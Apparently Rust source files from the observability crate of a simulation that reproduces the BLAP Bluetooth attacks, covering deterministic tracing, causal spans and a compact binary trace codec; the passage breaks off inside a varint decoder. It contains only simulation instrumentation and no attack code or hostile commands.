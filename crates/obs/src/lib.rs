//! Deterministic observability for the BLAP reproduction.
//!
//! Both BLAP attacks are diagnosed from what crosses the HCI seam, yet the
//! simulation itself was a black box: when a Table II trial lands outside
//! the 42–60% band, the only tool was `println!` archaeology through a
//! 625 µs-slotted event loop. This crate is the first-class replacement —
//! three parts, all deterministic:
//!
//! * [`trace`] — typed [`trace::TraceEvent`]s (scheduler dispatch, page and
//!   scan transitions, LMP send/recv, HCI seam crossings, keystore
//!   mutations, attack-phase markers) fanned out through a cloneable
//!   [`trace::Tracer`] handle to pluggable [`trace::TraceSink`]s: a
//!   ring-buffer [`trace::FlightRecorder`] for post-mortem dumps and a
//!   [`trace::JsonlBuffer`] for byte-comparable JSONL artifacts.
//! * [`metrics`] — counters, gauges and power-of-two [`metrics::Histogram`]s
//!   in a [`metrics::Metrics`] bag that merges commutatively, so per-world
//!   aggregates combined in unit-index order are identical at any worker
//!   count.
//! * Determinism rules — every event and metric is stamped with *virtual*
//!   time only. Wall-clock durations exist (the runner measures them) but
//!   are excluded from exported artifacts unless explicitly requested, so
//!   `--metrics` / trace output is byte-identical across runs, machines and
//!   `BLAP_JOBS` values.
//!
//! The whole layer is zero-cost when disabled: a disabled [`trace::Tracer`]
//! is a `None` check per call site, and the always-on counters are plain
//! `u64` increments on structs the hot loops already own.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod metrics;
pub mod trace;

pub use metrics::{export_json, Histogram, MetaValue, Metrics};
pub use trace::{DumpOnAssert, FlightRecorder, JsonlBuffer, TraceEvent, TraceSink, Tracer};
