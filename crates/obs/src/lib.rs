//! Deterministic observability for the BLAP reproduction.
//!
//! Both BLAP attacks are diagnosed from what crosses the HCI seam, yet the
//! simulation itself was a black box: when a Table II trial lands outside
//! the 42–60% band, the only tool was `println!` archaeology through a
//! 625 µs-slotted event loop. This crate is the first-class replacement —
//! three parts, all deterministic:
//!
//! * [`trace`] — typed [`trace::TraceEvent`]s (scheduler dispatch, page and
//!   scan transitions, LMP send/recv, HCI seam crossings, keystore
//!   mutations, attack-phase markers) fanned out through a cloneable
//!   [`trace::Tracer`] handle to pluggable [`trace::TraceSink`]s: a
//!   ring-buffer [`trace::FlightRecorder`] for post-mortem dumps and a
//!   [`trace::JsonlBuffer`] for byte-comparable JSONL artifacts.
//! * [`metrics`] — counters, gauges and power-of-two [`metrics::Histogram`]s
//!   in a [`metrics::Metrics`] bag that merges commutatively, so per-world
//!   aggregates combined in unit-index order are identical at any worker
//!   count.
//! * Determinism rules — every event and metric is stamped with *virtual*
//!   time only. Wall-clock durations exist (the runner measures them) but
//!   are excluded from exported artifacts unless explicitly requested, so
//!   `--metrics` / trace output is byte-identical across runs, machines and
//!   `BLAP_JOBS` values.
//!
//! The whole layer is zero-cost when disabled: a disabled [`trace::Tracer`]
//! is a `None` check per call site, and the always-on counters are plain
//! `u64` increments on structs the hot loops already own.
//!
//! On top of the recording tier sits the **analysis tier** (PR 4):
//!
//! * [`span`] — causal spans (trial → page / LMP auth / host pairing /
//!   PLOC / HCI exchange) with parent links, allocated deterministically
//!   per tracer and rendered as `span_open` / `span_close` trace lines.
//! * [`analyze`] — parses trace JSONL back into typed lines, reconstructs
//!   per-trial segments, computes a virtual-time phase-latency profile,
//!   and runs the declarative invariant checker the attack arguments rest
//!   on (every LMP send matched, PLOC links never pairing, keystore writes
//!   only after auth, page blocking implying a stolen pairing).
//! * [`stream`] — the single-pass streaming core under [`analyze`]:
//!   [`stream::StreamAnalyzer`] holds constant memory per in-flight trial,
//!   retires segments as their boundaries arrive, and (via
//!   [`stream::StreamSink`] + [`stream::ViolationSummary`]) lets the
//!   campaign engine check invariants live while trials execute.
//! * [`binfmt`] — the compact length-prefixed binary trace encoding and
//!   its streaming reader/writer; `blap-trace convert` round-trips it
//!   against JSONL byte-deterministically.
//! * [`diff`] — structural comparison of two trace/metrics artifacts, the
//!   CI gate that replaced ad-hoc byte diffs.
//! * [`json`] — the shared escaper both renderers use, plus the
//!   dependency-free parser the analysis tier reads artifacts back with.
//!
//! Beside the deterministic tier — never inside it — sits [`prof`], the
//! wall-clock profiling subsystem (`blap-prof`): RAII scope guards keyed
//! by the same span names, per-worker pool utilization, flamegraph-folded
//! export, and (behind the `prof-alloc` feature) a counting global
//! allocator. Its output is sidecar-only, so enabling it never perturbs a
//! `--trace`/`--metrics` byte.
//!
//! [`telemetry`] extends the wall-clock side with a **live** tier: a
//! versioned [`telemetry::TelemetrySnapshot`] bus sampled on an interval
//! while a campaign runs (trials/s, per-worker utilization, win rates,
//! violation counts, ETA), ring-buffered with an explicit
//! dropped-snapshot counter and appended as JSONL for `blap-top` to
//! tail-follow. It obeys the same sidecar rule: deterministic artifacts
//! are byte-identical with telemetry on or off.

// `prof-alloc` implements `GlobalAlloc`, which is inherently unsafe; the
// rest of the crate stays forbid-clean.
#![cfg_attr(not(feature = "prof-alloc"), forbid(unsafe_code))]
#![cfg_attr(feature = "prof-alloc", deny(unsafe_code))]
#![warn(missing_docs)]

pub mod analyze;
pub mod binfmt;
pub mod diff;
pub mod json;
pub mod metrics;
pub mod prof;
pub mod span;
pub mod stream;
pub mod telemetry;
pub mod trace;

pub use analyze::{analyze_trace, PhaseProfile, TraceAnalysis, Violation};
pub use binfmt::{BinaryBuffer, CodecError, Frame, FrameReader, FrameWriter};
pub use diff::{diff_metrics, diff_traces, flatten_json, DiffReport, TraceDiff};
pub use metrics::{export_json, Histogram, MetaValue, Metrics};
pub use span::SpanId;
pub use stream::{StreamAnalyzer, StreamSink, ViolationSummary};
pub use telemetry::{SnapshotRing, TelemetrySnapshot};
pub use trace::{DumpOnAssert, FlightRecorder, JsonlBuffer, TraceEvent, TraceSink, Tracer};
