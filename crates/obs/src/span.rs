//! Causal spans: intervals of virtual time with parent links.
//!
//! A span is opened and closed through the [`crate::Tracer`], which
//! allocates IDs from a per-tracer counter. Because every experiment unit
//! runs single-threaded under its own tracer, allocation order — and
//! therefore the rendered artifact — is a pure function of the world seed,
//! never of worker scheduling.
//!
//! The layer is deliberately flat: a tracer tracks one **root** span (the
//! current trial) and every non-root span opened while it is active gets
//! that root as its parent. That is exactly the causality the BLAP
//! analyses need — "which trial does this page attempt / LMP transaction /
//! HCI exchange belong to" — without threading span handles through every
//! call signature in the stack.

/// Identifier of one span within a trace.
///
/// `SpanId::NONE` (raw value 0) is the "no span" sentinel: closing it is a
/// no-op, and a disabled tracer returns it from every open call, so
/// instrumented sites need no `if enabled` guards of their own.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct SpanId(u64);

impl SpanId {
    /// The "no span" sentinel.
    pub const NONE: SpanId = SpanId(0);

    /// Reconstructs a span ID from its raw trace representation.
    pub fn from_raw(raw: u64) -> SpanId {
        SpanId(raw)
    }

    /// The raw value as rendered in trace artifacts (0 = none).
    pub fn raw(self) -> u64 {
        self.0
    }

    /// Whether this is the sentinel.
    pub fn is_none(self) -> bool {
        self.0 == 0
    }
}

impl Default for SpanId {
    fn default() -> SpanId {
        SpanId::NONE
    }
}

/// Span allocation state shared by all clones of one tracer.
#[derive(Debug)]
pub(crate) struct SpanState {
    /// Next ID to hand out (IDs start at 1; 0 is the sentinel).
    next: u64,
    /// The currently open root span, if any.
    root: SpanId,
}

impl SpanState {
    pub(crate) fn new() -> SpanState {
        SpanState {
            next: 1,
            root: SpanId::NONE,
        }
    }

    /// Allocates the next span ID.
    pub(crate) fn alloc(&mut self) -> SpanId {
        let id = SpanId(self.next);
        self.next += 1;
        id
    }

    /// Current root span ([`SpanId::NONE`] when no trial is open).
    pub(crate) fn root(&self) -> SpanId {
        self.root
    }

    pub(crate) fn set_root(&mut self, span: SpanId) {
        self.root = span;
    }

    /// Clears the root if `span` is it (closing a root span ends the trial
    /// scope; closing anything else leaves it alone).
    pub(crate) fn clear_root_if(&mut self, span: SpanId) {
        if self.root == span {
            self.root = SpanId::NONE;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_start_at_one_and_increment() {
        let mut state = SpanState::new();
        assert_eq!(state.alloc(), SpanId::from_raw(1));
        assert_eq!(state.alloc(), SpanId::from_raw(2));
        assert!(!SpanId::from_raw(1).is_none());
        assert!(SpanId::NONE.is_none());
        assert_eq!(SpanId::default(), SpanId::NONE);
    }

    #[test]
    fn root_tracking() {
        let mut state = SpanState::new();
        let a = state.alloc();
        state.set_root(a);
        assert_eq!(state.root(), a);
        let b = state.alloc();
        state.clear_root_if(b);
        assert_eq!(state.root(), a, "closing a child leaves the root");
        state.clear_root_if(a);
        assert_eq!(state.root(), SpanId::NONE);
    }
}
