//! Compact length-prefixed binary trace encoding.
//!
//! JSONL is the canonical interchange format — human-greppable, diffable,
//! and what every committed fixture pins — but a campaign-scale sweep
//! emits gigabytes of it, most of which is repeated key names. This
//! module defines the equivalent binary form: an 8-byte magic
//! ([`MAGIC`], `b"BLAPTRC1"`) followed by frames, each a LEB128 varint
//! payload length and a payload of
//!
//! ```text
//! tag:u8  flags:u8  t:varint  [dev:varint]  per-tag fields...
//! ```
//!
//! One tag per [`TraceEvent`] variant (0 = `dispatch` … 16 =
//! `span_close`, declaration order). `flags` bit 0 marks a present
//! device id, bits 1 and 2 the optional `parent`/`detail` of a
//! `span_open`. Strings are varint-length-prefixed UTF-8; booleans are a
//! strict `0`/`1` byte. The length prefix lets a reader skip or validate
//! frames without understanding every tag, and makes torn final frames
//! (killed writer) detectable: a frame that ends early is a
//! [`CodecError`], never a panic or a silent truncation.
//!
//! The bridge type is [`Frame`]: an owned, self-contained event decoded
//! from either format. `Frame::render_jsonl` reproduces
//! [`TraceEvent::render_jsonl`] byte for byte, and [`Frame::from_jsonl`]
//! *verifies canonicality* — it re-renders what it parsed and rejects the
//! line on any byte mismatch (non-canonical number spellings, reordered
//! or extra keys). That check is what makes `blap-trace convert`
//! honestly byte-deterministic: JSONL → binary → JSONL is the identity
//! on every artifact our tracer can produce, and anything else is
//! refused loudly instead of silently rewritten.
//!
//! [`BinaryBuffer`] is the in-memory [`TraceSink`] counterpart of
//! [`crate::trace::JsonlBuffer`]; [`FrameWriter`]/[`FrameReader`] are the
//! streaming file surfaces `blap-trace` uses.

use std::fmt;
use std::io::{self, Read, Write};
use std::sync::{Arc, Mutex};

use crate::json::{escape_into, Value};
use crate::trace::{TraceEvent, TraceSink};

/// File magic: identifies a binary trace stream, version 1.
pub const MAGIC: [u8; 8] = *b"BLAPTRC1";

/// Upper bound on one frame's payload, far above any real event (the
/// largest variant is a `warning` whose message we cap nowhere, but even
/// pathological messages are kilobytes). Prevents a corrupt length
/// prefix from asking the reader to allocate gigabytes.
const MAX_PAYLOAD: u64 = 1 << 20;

const FLAG_DEV: u8 = 1 << 0;
const FLAG_PARENT: u8 = 1 << 1;
const FLAG_DETAIL: u8 = 1 << 2;

/// A malformed binary trace stream.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CodecError {
    /// 0-based index of the offending frame (0 also covers a bad magic).
    pub frame: usize,
    /// What went wrong.
    pub message: String,
    /// Whether the stream simply *ended* mid-frame — the torn final
    /// frame of a killed (or still-writing) producer — as opposed to
    /// structural corruption. Follow-mode readers tolerate exactly the
    /// truncated errors; everything else stays fatal.
    pub truncated: bool,
}

impl fmt::Display for CodecError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "binary trace frame {}: {}", self.frame, self.message)
    }
}

impl std::error::Error for CodecError {}

/// Whether a file prefix identifies a binary trace stream. Callers
/// should probe the first [`MAGIC`]`.len()` bytes; anything shorter is
/// not a valid binary stream (and is treated as JSONL by `blap-trace`).
pub fn is_binary(prefix: &[u8]) -> bool {
    prefix.starts_with(&MAGIC)
}

/// One decoded trace event, owned and format-independent: the meeting
/// point of the JSONL and binary codecs.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Frame {
    /// Virtual timestamp in microseconds.
    pub t: u64,
    /// Emitting device index, when the line was device-scoped.
    pub dev: Option<u32>,
    /// The event payload.
    pub kind: FrameKind,
}

/// The per-event payload of a [`Frame`], mirroring [`TraceEvent`] with
/// owned strings (a decoded frame outlives no borrowed source).
#[derive(Clone, Debug, PartialEq, Eq)]
#[allow(missing_docs)] // Field meanings are documented on `TraceEvent`.
pub enum FrameKind {
    Dispatch {
        seq: u64,
        kind: String,
    },
    PageStart {
        target: String,
    },
    PageConnect {
        target: String,
        responder: u64,
        latency_us: u64,
        raced: bool,
    },
    PageTimeout {
        target: String,
    },
    Race {
        target: String,
        attacker_won: bool,
    },
    Scan {
        page_scan: bool,
        inquiry_scan: bool,
    },
    LmpSend {
        peer: String,
        pdu: String,
    },
    LmpRecv {
        peer: String,
        pdu: String,
    },
    LmpTimeout {
        peer: String,
    },
    Hci {
        dir: String,
        kind: String,
        name: String,
    },
    LinkDrop {
        reason: String,
    },
    Keystore {
        peer: String,
        action: String,
    },
    AttackPhase {
        label: String,
    },
    Warning {
        message: String,
    },
    UnitStart {
        unit: u64,
        label: String,
    },
    SpanOpen {
        span: u64,
        parent: Option<u64>,
        name: String,
        detail: Option<String>,
    },
    SpanClose {
        span: u64,
        status: String,
    },
}

impl Frame {
    /// Condenses a live [`TraceEvent`] into a frame — the
    /// [`BinaryBuffer`] sink's ingestion path.
    pub fn from_event(device: Option<u32>, event: &TraceEvent) -> Frame {
        let t = event.time().as_micros();
        let kind = match event {
            TraceEvent::SchedulerDispatch { seq, kind, .. } => FrameKind::Dispatch {
                seq: *seq,
                kind: (*kind).to_owned(),
            },
            TraceEvent::PageStarted { target, .. } => FrameKind::PageStart {
                target: target.to_string(),
            },
            TraceEvent::PageConnected {
                target,
                responder,
                latency_us,
                raced,
                ..
            } => FrameKind::PageConnect {
                target: target.to_string(),
                responder: u64::from(*responder),
                latency_us: *latency_us,
                raced: *raced,
            },
            TraceEvent::PageTimeout { target, .. } => FrameKind::PageTimeout {
                target: target.to_string(),
            },
            TraceEvent::RaceOutcome {
                target,
                attacker_won,
                ..
            } => FrameKind::Race {
                target: target.to_string(),
                attacker_won: *attacker_won,
            },
            TraceEvent::ScanTransition {
                page_scan,
                inquiry_scan,
                ..
            } => FrameKind::Scan {
                page_scan: *page_scan,
                inquiry_scan: *inquiry_scan,
            },
            TraceEvent::LmpSend { peer, pdu, .. } => FrameKind::LmpSend {
                peer: peer.to_string(),
                pdu: (*pdu).to_owned(),
            },
            TraceEvent::LmpRecv { peer, pdu, .. } => FrameKind::LmpRecv {
                peer: peer.to_string(),
                pdu: (*pdu).to_owned(),
            },
            TraceEvent::LmpTimeout { peer, .. } => FrameKind::LmpTimeout {
                peer: peer.to_string(),
            },
            TraceEvent::HciSeam {
                direction,
                kind,
                name,
                ..
            } => FrameKind::Hci {
                dir: (*direction).to_owned(),
                kind: (*kind).to_owned(),
                name: (*name).to_owned(),
            },
            TraceEvent::LinkDropped { reason, .. } => FrameKind::LinkDrop {
                reason: (*reason).to_owned(),
            },
            TraceEvent::KeystoreMutation { peer, action, .. } => FrameKind::Keystore {
                peer: peer.to_string(),
                action: (*action).to_owned(),
            },
            TraceEvent::AttackPhase { label, .. } => FrameKind::AttackPhase {
                label: (*label).to_owned(),
            },
            TraceEvent::Warning { message, .. } => FrameKind::Warning {
                message: message.clone(),
            },
            TraceEvent::UnitStart { unit, label } => FrameKind::UnitStart {
                unit: *unit,
                label: (*label).to_owned(),
            },
            TraceEvent::SpanOpen {
                span,
                parent,
                name,
                detail,
                ..
            } => FrameKind::SpanOpen {
                span: span.raw(),
                parent: (!parent.is_none()).then(|| parent.raw()),
                name: (*name).to_owned(),
                detail: (!detail.is_empty()).then(|| detail.clone()),
            },
            TraceEvent::SpanClose { span, status, .. } => FrameKind::SpanClose {
                span: span.raw(),
                status: (*status).to_owned(),
            },
        };
        Frame {
            t,
            dev: device,
            kind,
        }
    }

    /// Renders the frame as one JSONL object (no trailing newline),
    /// byte-identical to what [`TraceEvent::render_jsonl`] would have
    /// produced for the originating event.
    pub fn render_jsonl(&self, out: &mut String) {
        use std::fmt::Write as _;
        let _ = write!(out, "{{\"t\":{}", self.t);
        if let Some(dev) = self.dev {
            let _ = write!(out, ",\"dev\":{dev}");
        }
        let str_key = |out: &mut String, key: &str, value: &str| {
            out.push_str(",\"");
            out.push_str(key);
            out.push_str("\":\"");
            escape_into(value, out);
            out.push('"');
        };
        match &self.kind {
            FrameKind::Dispatch { seq, kind } => {
                let _ = write!(out, ",\"ev\":\"dispatch\",\"seq\":{seq}");
                str_key(out, "kind", kind);
            }
            FrameKind::PageStart { target } => {
                out.push_str(",\"ev\":\"page_start\"");
                str_key(out, "target", target);
            }
            FrameKind::PageConnect {
                target,
                responder,
                latency_us,
                raced,
            } => {
                out.push_str(",\"ev\":\"page_connect\"");
                str_key(out, "target", target);
                let _ = write!(
                    out,
                    ",\"responder\":{responder},\"latency_us\":{latency_us},\"raced\":{raced}"
                );
            }
            FrameKind::PageTimeout { target } => {
                out.push_str(",\"ev\":\"page_timeout\"");
                str_key(out, "target", target);
            }
            FrameKind::Race {
                target,
                attacker_won,
            } => {
                out.push_str(",\"ev\":\"race\"");
                str_key(out, "target", target);
                let _ = write!(out, ",\"attacker_won\":{attacker_won}");
            }
            FrameKind::Scan {
                page_scan,
                inquiry_scan,
            } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"scan\",\"page_scan\":{page_scan},\"inquiry_scan\":{inquiry_scan}"
                );
            }
            FrameKind::LmpSend { peer, pdu } => {
                out.push_str(",\"ev\":\"lmp_send\"");
                str_key(out, "peer", peer);
                str_key(out, "pdu", pdu);
            }
            FrameKind::LmpRecv { peer, pdu } => {
                out.push_str(",\"ev\":\"lmp_recv\"");
                str_key(out, "peer", peer);
                str_key(out, "pdu", pdu);
            }
            FrameKind::LmpTimeout { peer } => {
                out.push_str(",\"ev\":\"lmp_timeout\"");
                str_key(out, "peer", peer);
            }
            FrameKind::Hci { dir, kind, name } => {
                out.push_str(",\"ev\":\"hci\"");
                str_key(out, "dir", dir);
                str_key(out, "kind", kind);
                str_key(out, "name", name);
            }
            FrameKind::LinkDrop { reason } => {
                out.push_str(",\"ev\":\"link_drop\"");
                str_key(out, "reason", reason);
            }
            FrameKind::Keystore { peer, action } => {
                out.push_str(",\"ev\":\"keystore\"");
                str_key(out, "peer", peer);
                str_key(out, "action", action);
            }
            FrameKind::AttackPhase { label } => {
                out.push_str(",\"ev\":\"attack_phase\"");
                str_key(out, "label", label);
            }
            FrameKind::Warning { message } => {
                out.push_str(",\"ev\":\"warning\"");
                str_key(out, "message", message);
            }
            FrameKind::UnitStart { unit, label } => {
                let _ = write!(out, ",\"ev\":\"unit_start\",\"unit\":{unit}");
                str_key(out, "label", label);
            }
            FrameKind::SpanOpen {
                span,
                parent,
                name,
                detail,
            } => {
                let _ = write!(out, ",\"ev\":\"span_open\",\"span\":{span}");
                if let Some(parent) = parent {
                    let _ = write!(out, ",\"parent\":{parent}");
                }
                str_key(out, "name", name);
                if let Some(detail) = detail {
                    str_key(out, "detail", detail);
                }
            }
            FrameKind::SpanClose { span, status } => {
                let _ = write!(out, ",\"ev\":\"span_close\",\"span\":{span}");
                str_key(out, "status", status);
            }
        }
        out.push('}');
    }

    /// Parses one canonical JSONL trace line back into a frame.
    ///
    /// Canonicality is *verified*, not assumed: the parsed frame is
    /// re-rendered and must reproduce `line` byte for byte. A line with
    /// reordered keys, extra fields, or a non-canonical number spelling
    /// (`007`, `1e3`) is rejected — silently normalizing it would make
    /// `convert` round trips lossy.
    pub fn from_jsonl(line: &str) -> Result<Frame, String> {
        let value = crate::json::parse(line).map_err(|e| e.to_string())?;
        let frame = Frame::from_value(&value)?;
        let mut rendered = String::with_capacity(line.len());
        frame.render_jsonl(&mut rendered);
        if rendered != line {
            return Err(format!(
                "non-canonical trace line: parsed frame re-renders as {rendered:?}"
            ));
        }
        Ok(frame)
    }

    fn from_value(value: &Value) -> Result<Frame, String> {
        let str_field = |key: &str| {
            value
                .get(key)
                .and_then(Value::as_str)
                .map(str::to_owned)
                .ok_or_else(|| format!("missing string {key:?} field"))
        };
        let u64_field = |key: &str| {
            value
                .get(key)
                .and_then(Value::as_u64)
                .ok_or_else(|| format!("missing integer {key:?} field"))
        };
        let bool_field = |key: &str| {
            value
                .get(key)
                .and_then(Value::as_bool)
                .ok_or_else(|| format!("missing boolean {key:?} field"))
        };
        let t = u64_field("t")?;
        let dev = match value.get("dev").and_then(Value::as_u64) {
            Some(d) => Some(
                u32::try_from(d)
                    .map_err(|_| format!("\"dev\" value {d} exceeds the u32 device-id range"))?,
            ),
            None => None,
        };
        let ev = value
            .get("ev")
            .and_then(Value::as_str)
            .ok_or_else(|| "missing string \"ev\" field".to_owned())?;
        let kind = match ev {
            "dispatch" => FrameKind::Dispatch {
                seq: u64_field("seq")?,
                kind: str_field("kind")?,
            },
            "page_start" => FrameKind::PageStart {
                target: str_field("target")?,
            },
            "page_connect" => FrameKind::PageConnect {
                target: str_field("target")?,
                responder: u64_field("responder")?,
                latency_us: u64_field("latency_us")?,
                raced: bool_field("raced")?,
            },
            "page_timeout" => FrameKind::PageTimeout {
                target: str_field("target")?,
            },
            "race" => FrameKind::Race {
                target: str_field("target")?,
                attacker_won: bool_field("attacker_won")?,
            },
            "scan" => FrameKind::Scan {
                page_scan: bool_field("page_scan")?,
                inquiry_scan: bool_field("inquiry_scan")?,
            },
            "lmp_send" => FrameKind::LmpSend {
                peer: str_field("peer")?,
                pdu: str_field("pdu")?,
            },
            "lmp_recv" => FrameKind::LmpRecv {
                peer: str_field("peer")?,
                pdu: str_field("pdu")?,
            },
            "lmp_timeout" => FrameKind::LmpTimeout {
                peer: str_field("peer")?,
            },
            "hci" => FrameKind::Hci {
                dir: str_field("dir")?,
                kind: str_field("kind")?,
                name: str_field("name")?,
            },
            "link_drop" => FrameKind::LinkDrop {
                reason: str_field("reason")?,
            },
            "keystore" => FrameKind::Keystore {
                peer: str_field("peer")?,
                action: str_field("action")?,
            },
            "attack_phase" => FrameKind::AttackPhase {
                label: str_field("label")?,
            },
            "warning" => FrameKind::Warning {
                message: str_field("message")?,
            },
            "unit_start" => FrameKind::UnitStart {
                unit: u64_field("unit")?,
                label: str_field("label")?,
            },
            "span_open" => FrameKind::SpanOpen {
                span: u64_field("span")?,
                parent: value.get("parent").and_then(Value::as_u64),
                name: str_field("name")?,
                detail: value
                    .get("detail")
                    .and_then(Value::as_str)
                    .map(str::to_owned),
            },
            "span_close" => FrameKind::SpanClose {
                span: u64_field("span")?,
                status: str_field("status")?,
            },
            other => return Err(format!("unknown event kind {other:?}")),
        };
        Ok(Frame { t, dev, kind })
    }

    /// Encodes the frame's payload (everything after the length prefix).
    fn encode_payload(&self, out: &mut Vec<u8>) {
        let (tag, parent, detail): (u8, Option<u64>, Option<&str>) = match &self.kind {
            FrameKind::Dispatch { .. } => (0, None, None),
            FrameKind::PageStart { .. } => (1, None, None),
            FrameKind::PageConnect { .. } => (2, None, None),
            FrameKind::PageTimeout { .. } => (3, None, None),
            FrameKind::Race { .. } => (4, None, None),
            FrameKind::Scan { .. } => (5, None, None),
            FrameKind::LmpSend { .. } => (6, None, None),
            FrameKind::LmpRecv { .. } => (7, None, None),
            FrameKind::LmpTimeout { .. } => (8, None, None),
            FrameKind::Hci { .. } => (9, None, None),
            FrameKind::LinkDrop { .. } => (10, None, None),
            FrameKind::Keystore { .. } => (11, None, None),
            FrameKind::AttackPhase { .. } => (12, None, None),
            FrameKind::Warning { .. } => (13, None, None),
            FrameKind::UnitStart { .. } => (14, None, None),
            FrameKind::SpanOpen { parent, detail, .. } => (15, *parent, detail.as_deref()),
            FrameKind::SpanClose { .. } => (16, None, None),
        };
        out.push(tag);
        let mut flags = 0u8;
        if self.dev.is_some() {
            flags |= FLAG_DEV;
        }
        if parent.is_some() {
            flags |= FLAG_PARENT;
        }
        if detail.is_some() {
            flags |= FLAG_DETAIL;
        }
        out.push(flags);
        put_varint(out, self.t);
        if let Some(dev) = self.dev {
            put_varint(out, u64::from(dev));
        }
        match &self.kind {
            FrameKind::Dispatch { seq, kind } => {
                put_varint(out, *seq);
                put_string(out, kind);
            }
            FrameKind::PageStart { target } => put_string(out, target),
            FrameKind::PageConnect {
                target,
                responder,
                latency_us,
                raced,
            } => {
                put_string(out, target);
                put_varint(out, *responder);
                put_varint(out, *latency_us);
                out.push(u8::from(*raced));
            }
            FrameKind::PageTimeout { target } => put_string(out, target),
            FrameKind::Race {
                target,
                attacker_won,
            } => {
                put_string(out, target);
                out.push(u8::from(*attacker_won));
            }
            FrameKind::Scan {
                page_scan,
                inquiry_scan,
            } => {
                out.push(u8::from(*page_scan));
                out.push(u8::from(*inquiry_scan));
            }
            FrameKind::LmpSend { peer, pdu } | FrameKind::LmpRecv { peer, pdu } => {
                put_string(out, peer);
                put_string(out, pdu);
            }
            FrameKind::LmpTimeout { peer } => put_string(out, peer),
            FrameKind::Hci { dir, kind, name } => {
                put_string(out, dir);
                put_string(out, kind);
                put_string(out, name);
            }
            FrameKind::LinkDrop { reason } => put_string(out, reason),
            FrameKind::Keystore { peer, action } => {
                put_string(out, peer);
                put_string(out, action);
            }
            FrameKind::AttackPhase { label } => put_string(out, label),
            FrameKind::Warning { message } => put_string(out, message),
            FrameKind::UnitStart { unit, label } => {
                put_varint(out, *unit);
                put_string(out, label);
            }
            FrameKind::SpanOpen {
                span,
                parent,
                name,
                detail,
            } => {
                put_varint(out, *span);
                if let Some(parent) = parent {
                    put_varint(out, *parent);
                }
                put_string(out, name);
                if let Some(detail) = detail {
                    put_string(out, detail);
                }
            }
            FrameKind::SpanClose { span, status } => {
                put_varint(out, *span);
                put_string(out, status);
            }
        }
    }

    /// Decodes one payload (everything after the length prefix). The
    /// whole payload must be consumed: trailing bytes are an error.
    fn decode_payload(payload: &[u8]) -> Result<Frame, String> {
        let mut cur = Cursor {
            buf: payload,
            pos: 0,
        };
        let tag = cur.u8("tag")?;
        let flags = cur.u8("flags")?;
        let known_flags = FLAG_DEV
            | if tag == 15 {
                FLAG_PARENT | FLAG_DETAIL
            } else {
                0
            };
        if flags & !known_flags != 0 {
            return Err(format!("unknown flag bits {:#04x} for tag {tag}", flags));
        }
        let t = cur.varint("t")?;
        let dev = if flags & FLAG_DEV != 0 {
            let d = cur.varint("dev")?;
            Some(
                u32::try_from(d)
                    .map_err(|_| format!("\"dev\" value {d} exceeds the u32 device-id range"))?,
            )
        } else {
            None
        };
        let kind = match tag {
            0 => FrameKind::Dispatch {
                seq: cur.varint("seq")?,
                kind: cur.string("kind")?,
            },
            1 => FrameKind::PageStart {
                target: cur.string("target")?,
            },
            2 => FrameKind::PageConnect {
                target: cur.string("target")?,
                responder: cur.varint("responder")?,
                latency_us: cur.varint("latency_us")?,
                raced: cur.bool("raced")?,
            },
            3 => FrameKind::PageTimeout {
                target: cur.string("target")?,
            },
            4 => FrameKind::Race {
                target: cur.string("target")?,
                attacker_won: cur.bool("attacker_won")?,
            },
            5 => FrameKind::Scan {
                page_scan: cur.bool("page_scan")?,
                inquiry_scan: cur.bool("inquiry_scan")?,
            },
            6 => FrameKind::LmpSend {
                peer: cur.string("peer")?,
                pdu: cur.string("pdu")?,
            },
            7 => FrameKind::LmpRecv {
                peer: cur.string("peer")?,
                pdu: cur.string("pdu")?,
            },
            8 => FrameKind::LmpTimeout {
                peer: cur.string("peer")?,
            },
            9 => FrameKind::Hci {
                dir: cur.string("dir")?,
                kind: cur.string("kind")?,
                name: cur.string("name")?,
            },
            10 => FrameKind::LinkDrop {
                reason: cur.string("reason")?,
            },
            11 => FrameKind::Keystore {
                peer: cur.string("peer")?,
                action: cur.string("action")?,
            },
            12 => FrameKind::AttackPhase {
                label: cur.string("label")?,
            },
            13 => FrameKind::Warning {
                message: cur.string("message")?,
            },
            14 => FrameKind::UnitStart {
                unit: cur.varint("unit")?,
                label: cur.string("label")?,
            },
            15 => {
                let span = cur.varint("span")?;
                let parent = if flags & FLAG_PARENT != 0 {
                    Some(cur.varint("parent")?)
                } else {
                    None
                };
                let name = cur.string("name")?;
                let detail = if flags & FLAG_DETAIL != 0 {
                    Some(cur.string("detail")?)
                } else {
                    None
                };
                FrameKind::SpanOpen {
                    span,
                    parent,
                    name,
                    detail,
                }
            }
            16 => FrameKind::SpanClose {
                span: cur.varint("span")?,
                status: cur.string("status")?,
            },
            other => return Err(format!("unknown frame tag {other}")),
        };
        if cur.pos != payload.len() {
            return Err(format!(
                "{} trailing byte(s) after a complete frame payload",
                payload.len() - cur.pos
            ));
        }
        Ok(Frame { t, dev, kind })
    }
}

/// LEB128 unsigned varint append.
fn put_varint(out: &mut Vec<u8>, mut value: u64) {
    loop {
        let byte = (value & 0x7f) as u8;
        value >>= 7;
        if value == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

fn put_string(out: &mut Vec<u8>, s: &str) {
    put_varint(out, s.len() as u64);
    out.extend_from_slice(s.as_bytes());
}

/// Bounds-checked reader over one frame payload.
struct Cursor<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl Cursor<'_> {
    fn u8(&mut self, what: &str) -> Result<u8, String> {
        let byte = *self
            .buf
            .get(self.pos)
            .ok_or_else(|| format!("payload ends inside {what}"))?;
        self.pos += 1;
        Ok(byte)
    }

    fn bool(&mut self, what: &str) -> Result<bool, String> {
        match self.u8(what)? {
            0 => Ok(false),
            1 => Ok(true),
            other => Err(format!("boolean {what} has value {other}, want 0 or 1")),
        }
    }

    fn varint(&mut self, what: &str) -> Result<u64, String> {
        let mut value = 0u64;
        for shift in (0..64).step_by(7) {
            let byte = self.u8(what)?;
            let bits = u64::from(byte & 0x7f);
            if shift == 63 && bits > 1 {
                return Err(format!("varint {what} overflows u64"));
            }
            value |= bits << shift;
